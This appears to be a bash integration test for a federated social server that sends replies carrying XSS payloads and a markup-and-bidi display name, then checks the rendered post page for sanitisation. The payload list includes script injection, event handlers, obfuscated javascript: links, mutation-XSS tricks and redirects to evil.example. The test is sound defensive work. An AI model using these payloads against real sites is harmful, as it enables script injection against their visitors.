#!/bin/bash
# tests/integration/replies_web.sh - citizens' replies on a post's page (issue #11 items 1
# and 3). Signed replies from a test peer carry the usual XSS payload families in their
# content, and their author's display name carries markup and bidi overrides. While the
# account's `replies` key is hidden (the default) the page shows none of them; after
# `herald account set health replies shown` it shows the publicly addressed ones, sanitised:
# no <script, no on*= attribute, no javascript:/data:/vbscript: href, no raw bidi control,
# no svg/math/style/iframe/form/meta/base/object/embed tag; benign markup and text survive;
# the name is escaped next to the handle; a followers-only reply never appears.
#
# Peer: 127.0.0.2 ann (name with markup and bidi), bob (no display name).
. "$(dirname "$0")/../harness/lib.sh"

AS='https://www.w3.org/ns/activitystreams'
PUBLIC="$AS#Public"
RLO=$'\xe2\x80\xae' LRI=$'\xe2\x81\xa6' PDI=$'\xe2\x81\xa9' FFFD=$'\xef\xbf\xbd'
BROWSER='text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'

h_start health agency
ME="$H_BASE/users/health"
herald() { "$HERALD_BIN" --data "$H_DATA" "$@"; }

fp_start 127.0.0.2 p2
P2_ROOT=$FP_ROOT P2=$FP_BASE
fp_actor "$P2_ROOT" "$P2" ann
fp_actor "$P2_ROOT" "$P2" bob
ANN="$P2/users/ann" BOB="$P2/users/bob"
# ann's display name: markup and a right-to-left override (JSON escapes, as a server sends)
sed -i 's/"name":"Remote ann"/"name":"<img src=x onerror=alert(9)><b>Ann<\/b> \\u202egnp.exe"/' \
    "$P2_ROOT/users/ann.json"
sed -i 's/"name":"Remote bob",//' "$P2_ROOT/users/bob.json" # bob has no display name
t_match "ann's actor has the hostile name" 'onerror=alert\(9\)' "$(cat "$P2_ROOT/users/ann.json")"

NOTE=$(herald post health "Water supply notice")
t_match "a post is published" "^$ME/notes/" "$NOTE"
PAGE="/@health/${NOTE##*/}"

# jstr TEXT: TEXT as the inside of a JSON string
jstr() {
    local s=${1//\\/\\\\}
    s=${s//\"/\\\"}
    s=${s//$'\t'/\\t}
    printf '%s' "${s//$'\n'/\\n}"
}
n=0
# reply AS TO CONTENT [CW]: a signed Create(Note) by AS (ann|bob) in reply to NOTE,
# addressed TO (a JSON array), with CONTENT (and a content warning CW); sets SC_STATUS.
reply() {
    local who=$1 actor="$P2/users/$1" to=$2 content cw=
    content=$(jstr "$3")
    [ -z "${4:-}" ] || cw="\"summary\":\"$(jstr "$4")\",\"sensitive\":true,"
    n=$((n + 1))
    sc_as "$P2_ROOT" "$P2" "$who" "$H_BASE/inbox" --body-text \
        "{\"@context\":\"$AS\",\"id\":\"$actor/statuses/$n/activity\",\"type\":\"Create\",\"actor\":\"$actor\",\"to\":$to,\"object\":{\"id\":\"$actor/statuses/$n\",\"type\":\"Note\",\"attributedTo\":\"$actor\",\"inReplyTo\":\"$NOTE\",\"to\":$to,\"cc\":[\"$actor/followers\"],\"published\":\"2026-01-02T03:04:0${n: -1}Z\",\"url\":\"$actor/statuses/$n\",$cw\"contentMap\":{\"zh-CN\":\"$(jstr "$3")\"},\"content\":\"$content\"}}"
}

PAYLOADS=(
    '<p>Benign thanks <a href="https://example.org/info" class="u-url mention">@<span>info</span></a> <strong>bold</strong></p>'
    '<p>s1<script>alert(1)</script></p><SCRIPT SRC=//evil.example/x.js></SCRIPT>'
    '<img src=x onerror=alert(2)><p onclick="alert(3)">h1</p><body onload=alert(4)>'
    '<a href="javascript:alert(5)">j1</a><a href="JaVaScRiPt:alert(6)">j2</a><a href="java&#x09;script:alert(7)">j3</a><a href="&#106;avascript:alert(8)">j4</a><a href=" javascript:alert(9)">j5</a>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d1</a><a href="vbscript:msgbox(1)">v1</a><a href="//evil.example/">r1</a>'
    '<svg><style><img src=x onerror=alert(10)></style></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(11)>'
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(12)>'
    '<noscript><p title="</noscript><img src=x onerror=alert(13)>"></noscript><xmp><img src=x onerror=alert(14)></xmp>'
    '<style>body{display:none}</style><iframe src="https://evil.example/" srcdoc="<script>alert(15)</script>"></iframe><object data=x.swf></object><embed src=x.swf>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><form action="https://evil.example/"><input name=p></form>'
    "<a href='https://example.org/\"><script>alert(16)</script>'>b1</a><span class='x'><img src=x onerror=alert(17)>'>b2</span>"
    "<p>bidi ${RLO}txt.exe ${LRI}x${PDI}</p><a href=\"https://example.org/\">${RLO}moc.live</a>"
)
for p in "${PAYLOADS[@]}"; do
    reply ann "[\"$PUBLIC\"]" "$p"
    [ "$SC_STATUS" = 202 ] || t_fail "reply $n refused: $SC_STATUS $SC_BODY"
done
reply bob "[\"$PUBLIC\"]" '<p>Unnamed <em>citizen</em> reply</p>' "<b>CW</b> ${RLO}spoiler"
t_eq "bob's reply accepted" 202 "$SC_STATUS"
reply bob "[\"$BOB/followers\"]" '<p>followers only secret</p>'
t_eq "bob's followers-only reply accepted" 202 "$SC_STATUS"
reply bob "[\"$ME\"]" '<p>direct secret</p>'
t_eq "bob's direct reply accepted" 202 "$SC_STATUS"
t_eq "every reply is counted" "$((${#PAYLOADS[@]} + 3))" \
    "$(curl -s -H 'Accept: application/activity+json' "$NOTE/replies" | t_jq .totalItems)"

# get: the post's page as a browser asks; sets ST and BODY ($T_DIR/body).
get() {
    ST=$(curl -s -o "$T_DIR/body" -w '%{http_code}' -H "Accept: $BROWSER" "$H_BASE$PAGE" || true)
    BODY=$(cat "$T_DIR/body")
}
count() { grep -c -i -E -- "$1" "$T_DIR/body" || true; }

# ---- hidden (the default): none of them ----
get
t_eq "the page opens" 200 "$ST"
t_match "it shows our post" 'Water supply notice' "$BODY"
t_eq "replies hidden: no citizen reply" 0 "$(count 'class="reply remote"')"
t_eq "replies hidden: not even the benign one" 0 "$(count 'Benign thanks')"

# ---- the setting: only shown|hidden ----
herald account set health replies maybe 2>"$T_DIR/err" && t_fail "replies=maybe accepted"
t_match "a bad value is a clear error" 'replies is shown or hidden' "$(cat "$T_DIR/err")"
get
t_eq "a refused value changes nothing" 0 "$(count 'class="reply remote"')"
herald account set health replies shown >/dev/null || t_fail "replies shown refused"

# ---- shown: sanitised ----
get
t_eq "replies shown: the page opens" 200 "$ST"
t_eq "every public reply is shown, the others not" "$((${#PAYLOADS[@]} + 1))" \
    "$(grep -o 'class="reply remote"' "$T_DIR/body" | wc -l)"
t_eq "no followers-only reply" 0 "$(count 'followers only secret')"
t_eq "no direct reply" 0 "$(count 'direct secret')"
t_eq "no <script" 0 "$(count '<script')"
t_eq "no on*= attribute" 0 "$(count '<[^>]* on[a-z]+=')"
t_eq "no javascript:/data:/vbscript: href" 0 "$(count 'href="(javascript|data|vbscript):')"
t_eq "no javascript: anywhere in an attribute" 0 "$(count '="[^"]*javascript:')"
t_eq "no protocol-relative href" 0 "$(count 'href="//')"
t_eq "no svg/math/style/iframe/form/meta refresh/base/object/embed/img tag" 0 \
    "$(count '<(svg|math|style|iframe|form|base|object|embed|img|input|noscript|xmp)[ >]|http-equiv')"
t_eq "no raw bidi control" 0 "$(grep -c -e "$RLO" -e "$LRI" -e "$PDI" "$T_DIR/body" || true)"
t_match "benign markup survives" '<p>Benign thanks <a href="https://example.org/info" rel="nofollow noopener noreferrer ugc" target="_blank" class="u-url mention">@<span>info</span></a> <strong>bold</strong></p>' "$BODY"
t_match "a refused link keeps its text" '>j1j2j3j4j5<|j1j2j3j4j5' "$BODY"
t_match "the reply's language is its lang" '<article class="reply remote" lang="zh-CN">' "$BODY"
t_match "the name is escaped" '&lt;img src=x onerror=alert\(9\)&gt;&lt;b&gt;Ann&lt;/b&gt; ' "$BODY"
t_match "the name sits next to the handle" \
    '<span class="name"><bdi>&lt;img[^<]*</bdi></span> <span class="handle">@ann@127\.0\.0\.2' "$BODY"
t_match "without a name, the handle alone" '<p class="byline"><span class="handle">@bob@127\.0\.0\.2' "$BODY"
t_match "a content warning is text, the words behind it" \
    "<details><summary>&lt;b&gt;CW&lt;/b&gt; ${FFFD}spoiler</summary><div class=\"content\"><p>Unnamed <em>citizen</em> reply</p></div></details>" "$BODY"
t_match "each reply links to its original" "href=\"$ANN/statuses/1\" rel=\"nofollow noopener noreferrer ugc\"" "$BODY"

# ---- the author deletes a reply: gone from the page ----
sc_as "$P2_ROOT" "$P2" bob "$H_BASE/inbox" --body-text \
    "{\"@context\":\"$AS\",\"id\":\"$BOB/deletes/1\",\"type\":\"Delete\",\"actor\":\"$BOB\",\"object\":{\"id\":\"$BOB/statuses/$((${#PAYLOADS[@]} + 1))\",\"type\":\"Tombstone\"}}"
t_eq "bob's Delete accepted" 202 "$SC_STATUS"
get
t_eq "a deleted reply leaves the page" 0 "$(count 'Unnamed')"

# ---- hidden again ----
herald account set health replies hidden >/dev/null || t_fail "replies hidden refused"
get
t_eq "hidden again: none shown" 0 "$(count 'class="reply remote"')"

t_done
